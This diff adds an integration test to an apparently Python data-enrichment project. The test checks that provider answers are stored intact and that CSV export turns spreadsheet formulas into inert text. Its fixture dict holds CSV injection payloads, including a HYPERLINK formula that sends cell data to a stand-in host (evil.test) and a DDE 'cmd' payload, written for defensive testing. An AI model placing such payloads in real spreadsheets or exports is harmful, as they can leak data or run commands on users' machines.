@@ -10,6 +10,7 @@ from __future__ import annotations
 import contextlib
 import csv
 import io
+import json
 import random
 import threading
 from concurrent.futures import ThreadPoolExecutor
@@ -35,6 +36,7 @@ from roster.store.profiles import ProfileStore
 from roster.store.segments import Segment, SegmentStore
 from roster.store.workspaces import WorkspaceStore, custom_fields
 from roster_dev.local.stack import LocalStack
+from tests.integration.test_http_provider import Received, Reply, serve
 
 EMAIL_CHECK = {"type": "built_in", "name": "email_validation", "credits_per_record": 1}
 DOMAIN = {"type": "built_in", "name": "company_domain"}
@@ -443,3 +445,48 @@ def test_definitions_are_checked(enrichments: Enrichments, workspace: str) -> No
 
 def _key(workspace: str, run_id: str, batch: int) -> str:
     return f"enrichment-batches/{workspace}/{run_id}/batch-{batch:07d}.jsonl"
+
+
+HOSTILE_ANSWERS = {
+    "f1@acme.com": '=HYPERLINK("http://evil.test/?d="&A1,"Open")',
+    "f2@acme.com": "+cmd|' /C calc'!A0",
+    "f3@acme.com": "-1+1",
+    "f4@acme.com": "@SUM(A1:A9)",
+    "f5@acme.com": "\tleading tab",
+    "f6@acme.com": "\rleading return",
+    "f7@acme.com": "lone \ud800 surrogate",
+}
+
+
+def test_any_provider_answer_is_stored_and_exported_and_formulas_stay_text(
+    enrichments: Enrichments, queue: Queue, workspace: str
+) -> None:
+    ids = people(workspace, *HOSTILE_ANSWERS)
+
+    def answer(request: Received) -> Reply:
+        email = json.loads(request.body)["email"]
+        return 200, {}, json.dumps({"title": HOSTILE_ANSWERS[email]}).encode()  # `\ud800` as JSON escapes it
+
+    with serve() as api:
+        api.reply = answer
+        config = {
+            "name": "titles_api",
+            "method": "POST",
+            "url": f"{api.url}/lookup",
+            "body": {"email": "{{email}}"},
+            "inputs": ["email"],
+            "outputs": {"vendor_title": {"path": "title"}},
+            "rate_limit_per_second": None,
+        }
+        definition = define(enrichments, workspace, providers=[{"type": "http", "config": config}])
+        run = run_to_end(enrichments, queue, workspace, definition.enrichment_id)
+    assert counts(run) == {"enriched": len(ids)}
+    stored = ProfileStore().get_many(workspace, Kind.PEOPLE, ids)
+    assert stored[ids[-1]].fields["vendor_title"] == "lone \ufffd surrogate"
+
+    text = "".join(enrichments.exports.as_csv(workspace, run.run_id))
+    text.encode("utf-8")
+    rows = {row["profile_id"]: row["vendor_title"] for row in csv.DictReader(io.StringIO(text, newline=""))}
+    kept = [stored[pid].fields["vendor_title"] for pid in ids]  # text is trimmed, so the tab and return go
+    assert kept[:4] == list(HOSTILE_ANSWERS.values())[:4]
+    assert [rows[pid] for pid in ids] == ["'" + value if value[0] in "=+-@" else value for value in kept]
